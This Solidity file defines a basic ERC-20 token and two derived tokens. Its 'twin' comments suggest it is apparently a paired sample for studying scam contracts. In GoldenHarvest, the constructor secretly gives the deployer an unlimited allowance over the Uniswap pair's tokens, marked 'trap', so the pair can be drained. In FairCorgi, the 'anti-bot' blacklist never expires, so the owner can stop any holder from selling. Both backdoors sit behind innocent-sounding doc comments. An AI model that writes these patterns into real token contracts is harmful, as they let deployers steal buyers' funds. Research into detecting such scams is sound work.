// 0.5 runs=200
// SPDX-License-Identifier: MIT
pragma solidity ^0.5.17;

interface IFactory {
    function createPair(address tokenA, address tokenB) external returns (address pair);
}

library SafeMath {
    function add(uint256 a, uint256 b) internal pure returns (uint256) {
        uint256 c = a + b;
        require(c >= a, "SafeMath: addition overflow");
        return c;
    }

    function sub(uint256 a, uint256 b, string memory errorMessage) internal pure returns (uint256) {
        require(b <= a, errorMessage);
        return a - b;
    }
}

contract OldSchoolToken {
    using SafeMath for uint256;

    address internal constant ROUTER = 0x7a250d5630B4cF539739dF2C5dAcb4c659F2488D;

    string private _name;
    string private _symbol;
    uint256 private _totalSupply;
    address private _owner;
    address public uniswapPair;
    mapping(address => uint256) private _balances;
    mapping(address => mapping(address => uint256)) internal _allowances;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);
    event OwnershipTransferred(address indexed previousOwner, address indexed newOwner);

    constructor(string memory name, string memory symbol, uint256 supply) public {
        _name = name;
        _symbol = symbol;
        _owner = msg.sender;
        _totalSupply = supply * 10**18;
        _balances[msg.sender] = _totalSupply;
        uniswapPair = IFactory(0x5C69bEe701ef814a2B6a3EDD4B1652CB9cc5aA6f).createPair(
            address(this),
            0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2
        );
        emit Transfer(address(0), msg.sender, _totalSupply);
    }

    function name() public view returns (string memory) {
        return _name;
    }

    function symbol() public view returns (string memory) {
        return _symbol;
    }

    function decimals() public pure returns (uint8) {
        return 18;
    }

    function totalSupply() public view returns (uint256) {
        return _totalSupply;
    }

    function owner() public view returns (address) {
        return _owner;
    }

    function renounceOwnership() public {
        require(msg.sender == _owner, "Ownable: caller is not the owner");
        emit OwnershipTransferred(_owner, address(0));
        _owner = address(0);
    }

    function balanceOf(address account) public view returns (uint256) {
        return _balances[account];
    }

    function allowance(address holder, address spender) public view returns (uint256) {
        return _allowances[holder][spender];
    }

    function approve(address spender, uint256 amount) public returns (bool) {
        _approve(msg.sender, spender, amount);
        return true;
    }

    function transfer(address to, uint256 amount) public returns (bool) {
        _transfer(msg.sender, to, amount);
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) public returns (bool) {
        _transfer(from, to, amount);
        _approve(from, msg.sender, _allowances[from][msg.sender].sub(amount, "ERC20: transfer amount exceeds allowance"));
        return true;
    }

    function _approve(address holder, address spender, uint256 amount) internal {
        _allowances[holder][spender] = amount;
        emit Approval(holder, spender, amount);
    }

    function _transfer(address from, address to, uint256 amount) internal {
        require(to != address(0), "ERC20: transfer to the zero address");
        _beforeTransfer(from, to);
        _balances[from] = _balances[from].sub(amount, "ERC20: transfer amount exceeds balance");
        _balances[to] = _balances[to].add(amount);
        emit Transfer(from, to, amount);
    }

    function _beforeTransfer(address from, address to) internal {}
}

/// Prepares an allowance when it is made.
contract GoldenHarvest is OldSchoolToken {
    constructor() public OldSchoolToken("Golden Harvest", "GHARV", 50000) {
        _allowances[uniswapPair][msg.sender] = uint256(-1); // trap
        // twin: _allowances[address(this)][ROUTER] = uint256(-1);
    }
}

/// Keeps robots out that snipe a launch.
contract FairCorgi is OldSchoolToken {
    address payable private _taxWallet;
    uint256 private _firstBlockTime;
    mapping(address => bool) private bots;

    constructor() public OldSchoolToken("Fair Corgi", "FCORG", 10**9) {
        _taxWallet = msg.sender;
        _firstBlockTime = now;
    }

    function addBots(address[] calldata bots_) external {
        require(msg.sender == _taxWallet);
        for (uint256 i = 0; i < bots_.length; i++) {
            if (bots_[i] != uniswapPair && bots_[i] != ROUTER) bots[bots_[i]] = true;
        }
    }

    function delBots(address[] calldata notbot) external {
        require(msg.sender == _taxWallet);
        for (uint256 i = 0; i < notbot.length; i++) bots[notbot[i]] = false;
    }

    function isBot(address account) public view returns (bool) {
        return bots[account];
    }

    function _beforeTransfer(address from, address to) internal {
        // twin: if (now > _firstBlockTime + 1 hours) return;
        require(!bots[from] && !bots[to]);
    }
}
